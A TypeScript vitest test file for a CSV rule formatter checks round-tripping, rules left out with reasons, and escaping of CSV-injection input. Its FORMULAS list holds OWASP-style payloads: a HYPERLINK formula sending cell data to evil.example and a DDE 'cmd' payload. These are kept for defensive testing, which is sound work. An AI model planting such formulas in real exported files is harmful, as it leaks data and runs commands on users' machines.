import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { formatRulesCsv } from "../src/formatRulesCsv.js";
import { tableAction } from "../src/parseRuleRows.js";
import { parseRulesCsv } from "../src/parseRulesCsv.js";
import type { Rule } from "../src/rule.js";

const HEADER =
  "RuleType,EventName,AttributeName,AttributeValue,Operator-C,Target-C,Operator-V,Target-V,ResetWhenReachTarget,StartDate,FinishDate,Key,MetricName";

const CSV = [
  HEADER,
  "aggregator,pageview,na,999,greater,1,na,999,no,9999-99-99,9999-99-99,views,na",
  "date,purchase,product,chair,greater,2,na,999,no,2021-02-28,2021-03-31,chair-buyers,na",
  "aggregator,purchase,na,999,na,999,greater,180.5,yes,9999-99-99,9999-99-99,spenders,price",
  'aggregator,"say ""hi"", you",na,999,equal,3,na,999,no,9999-99-99,9999-99-99,quoted,na',
  "",
].join("\r\n");

describe("formatRulesCsv", () => {
  it("writes rules as parseRulesCsv reads them, and reads back to the same rules", () => {
    const { rules } = parseRulesCsv(CSV);
    expect(formatRulesCsv(rules)).toEqual({ text: CSV, leftOut: [] });
  });

  const base: Rule = {
    id: "r",
    event: "e",
    count: { op: ">", value: 1 },
    action: { type: "attribute", name: "e", value: "Ready" },
    reset: false,
    enabled: true,
  };
  it.each<[string, Partial<Rule>, string]>([
    ["two filters", { where: { a: "1", b: "2" } }, "it has more than one attribute filter"],
    ["an operator without a word", { count: { op: ">=", value: 1 } }, "it uses >= or <="],
    ["a sink", { action: { type: "attribute", name: "e", value: "Ready", sink: "webhook" } }, "webhook sink"],
    ["an action of its own", { action: { type: "attribute", name: "mine", value: "Ready" } }, "not the one"],
    ["a padded name", { event: " e", action: { type: "attribute", name: " e", value: "Ready" } }, "trims"],
    [
      "a rolling window",
      { window: { last: "7d" } },
      "rolling window (last 7d), which the table has no column",
    ],
  ])("leaves out a rule with %s, saying why", (_, overrides, reason) => {
    const { text, leftOut } = formatRulesCsv([{ ...base, ...overrides }]);
    expect(text).toBe(`${HEADER}\r\n`);
    expect(leftOut).toEqual([{ id: "r", reason: expect.stringContaining(reason) }]);
  });

  // OWASP "CSV Injection": what a spreadsheet takes for a formula.
  const FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
  ];
  /** A rule the table can say, with the table's own action, named after its cells. */
  const tableRule = (cells: {
    event: string;
    where?: [string, string];
    id: string;
    sum?: string;
    metric?: string;
  }): Rule => ({
    id: cells.id,
    event: cells.event,
    ...(cells.where === undefined ? {} : { where: { [cells.where[0]]: cells.where[1] } }),
    count: { op: ">", value: 1 },
    ...(cells.sum === undefined
      ? {}
      : {
          sum: { op: ">", value: cells.sum, ...(cells.metric === undefined ? {} : { metric: cells.metric }) },
        }),
    action: tableAction({ dated: false, event: cells.event, filterValue: cells.where?.[1], reset: false }),
    reset: false,
    enabled: true,
  });

  it.each(FORMULAS)("writes %j so that a spreadsheet shows it as text, and reads it back", (formula) => {
    const rules = [
      tableRule({ event: formula, id: "in-event" }),
      tableRule({ event: "e", where: [formula, formula], id: "in-filter" }),
      tableRule({ event: "e", id: formula }),
      tableRule({ event: "e", id: "in-metric", sum: "1", metric: formula }),
    ];
    const { text, leftOut } = formatRulesCsv(rules);
    expect(leftOut).toEqual([]);
    // Every cell as a spreadsheet opens the file (quotes removed, nothing trimmed): none starts a formula.
    const cells = (parse(text) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
    expect(cells.filter((cell) => cell === `'${formula}`)).toHaveLength(5);
    expect(parseRulesCsv(text).rules).toEqual(rules);
  });

  it("keeps a negative target a number: -5 is no formula", () => {
    const rule = tableRule({ event: "refund", id: "refunds", sum: "-5" });
    const { text } = formatRulesCsv([rule]);
    expect(text.split("\r\n")[1]).toBe(
      "aggregator,refund,na,999,greater,1,greater,-5,no,9999-99-99,9999-99-99,refunds,na",
    );
    expect(parseRulesCsv(text).rules).toEqual([rule]);
  });

  it.each(["'=x", "''+y", "'x", "-", "'-"])("reads back %j, quotes and all", (event) => {
    const rules = [tableRule({ event, id: "r" })];
    expect(parseRulesCsv(formatRulesCsv(rules).text).rules).toEqual(rules);
  });
});
